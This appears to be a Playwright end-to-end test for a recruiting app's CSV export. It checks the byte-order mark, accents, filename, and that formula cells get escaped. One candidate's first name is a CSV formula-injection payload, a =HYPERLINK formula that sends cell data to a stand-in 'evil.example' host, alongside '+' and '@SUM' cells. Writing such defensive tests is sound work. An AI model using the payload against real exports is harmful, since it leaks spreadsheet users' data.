import fs from 'node:fs/promises';
import type { Download, Page } from '@playwright/test';
import { expect, test } from '../support/fixtures.js';

/*
 * Export CSV (docs/product/pipeline.md#export): the Glance stage of a job is exported from the selection bar
 * and downloaded; the file carries a byte-order mark, keeps accents, is named after the job and stage, and
 * neutralises a candidate whose name is a =HYPERLINK(...) formula and cells starting with + and @.
 */

const s = Math.random().toString(36).slice(2, 7);
const title = `Payments Engineer ${s}`;
const formula = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click me")';

async function jobWithCandidates(page: Page): Promise<string> {
  const post = async (url: string, data: unknown) => {
    const res = await page.request.post(url, { data });
    expect(res.status(), `${url}: ${await res.text()}`).toBe(201);
    return (await res.json()) as { id: string };
  };
  const company = await post('/api/companies', { name: `Export ${s}` });
  const job = await post('/api/jobs', { title, company_id: company.id });
  const people = [
    {
      first_name: 'Zoë',
      last_name: `Núñez-${s}`,
      current_title: 'Ingénieure',
      current_company: 'Société Générale',
    },
    {
      first_name: formula,
      last_name: `Payload-${s}`,
      current_title: '+44 20 7946 0000',
      current_company: '@SUM(A1:A9)',
    },
  ];
  for (const person of people) {
    const candidate = await post('/api/candidates', person);
    await post(`/api/jobs/${job.id}/candidates`, { candidate_id: candidate.id, stage_id: 'glance' });
  }
  return job.id;
}

async function text(download: Download): Promise<Buffer> {
  const path = await download.path();
  if (!path) throw new Error('the download was not saved');
  return fs.readFile(path);
}

test('exports a stage as CSV: BOM, accents, its name, and a formula cell neutralised', async ({ page }) => {
  test.setTimeout(90_000);
  const jobId = await jobWithCandidates(page);
  await page.goto(`/jobs/${jobId}?tab=candidates`);
  await expect(page.getByText('2 candidate(s) in Glance')).toBeVisible();

  await page.getByRole('table', { name: 'Candidates' }).getByRole('checkbox', { name: 'Select all' }).check();
  const bar = page.getByRole('region', { name: 'Selection' });
  await expect(bar.getByText('2 candidate(s) selected')).toBeVisible();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    bar.getByRole('button', { name: 'Export CSV' }).click(),
  ]);
  expect(download.suggestedFilename()).toBe(`${title} - Glance.csv`);

  const bytes = await text(download);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const csv = bytes.subarray(3).toString('utf8');
  const [header, ...rows] = csv.split('\r\n').filter(Boolean);
  expect(header).toMatch(/^First Name,Last Name,Current Title,Company,Stage,Action Owner,/);
  expect(rows).toHaveLength(2);
  expect(csv).toContain(`Zoë,Núñez-${s},Ingénieure,Société Générale,Glance,`);
  // OWASP: the formula, the + and the @ cells start with a ' and are shown as text.
  expect(csv).toContain(
    `"'${formula.replaceAll('"', '""')}",Payload-${s},'+44 20 7946 0000,'@SUM(A1:A9),Glance,`,
  );
  expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
});
